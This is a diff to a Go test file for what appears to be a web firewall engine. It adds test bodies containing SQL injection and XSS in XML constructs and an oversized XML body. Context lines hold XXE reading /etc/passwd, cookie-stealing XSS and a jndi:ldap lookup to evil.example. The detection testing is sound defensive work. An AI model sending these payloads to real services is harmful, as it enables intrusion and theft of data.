@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"mime/multipart"
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -75,6 +76,9 @@ func TestBodyShapesTheEngineMissed(t *testing.T) {
 		{name: "XSS in a multipart file name", method: "POST", path: "/upload", contentType: fw.FormDataContentType(), body: fn.String()},
 		{name: "SQL injection in an XML attribute", method: "POST", path: "/x", contentType: "application/xml", body: `<getUser id="1' UNION SELECT password FROM users--"/>`},
 		{name: "XSS in an XML attribute", method: "POST", path: "/x", contentType: "text/xml", body: `<a href="javascript:alert(document.cookie)" onload="alert(1)">x</a>`},
+		{name: "SQL injection in a processing instruction named xml", method: "POST", path: "/x", contentType: "application/xml", body: `<r><?xml data="1' UNION SELECT password FROM users--"?></r>`},
+		{name: "XSS past the fields of the declaration", method: "POST", path: "/x", contentType: "application/xml", body: `<?xml version="1.0" x="<script>alert(1)</script>"?><r/>`},
+		{name: "3000 one-character XML text nodes (past max_arguments)", method: "POST", path: "/x", contentType: "application/xml", body: "<r>" + strings.Repeat("c<a/>", 3000) + "</r>"},
 		{name: "XXE in a DOCTYPE", method: "POST", path: "/x", contentType: "application/xml", body: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`},
 		{name: "jndi in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"${jndi:ldap://evil.example/a}":{}}`},
 		{name: "SQL injection in a key of []", method: "POST", path: "/j", contentType: "application/json", body: `{"sort":{"1 UNION SELECT password FROM users--":[]}}`},
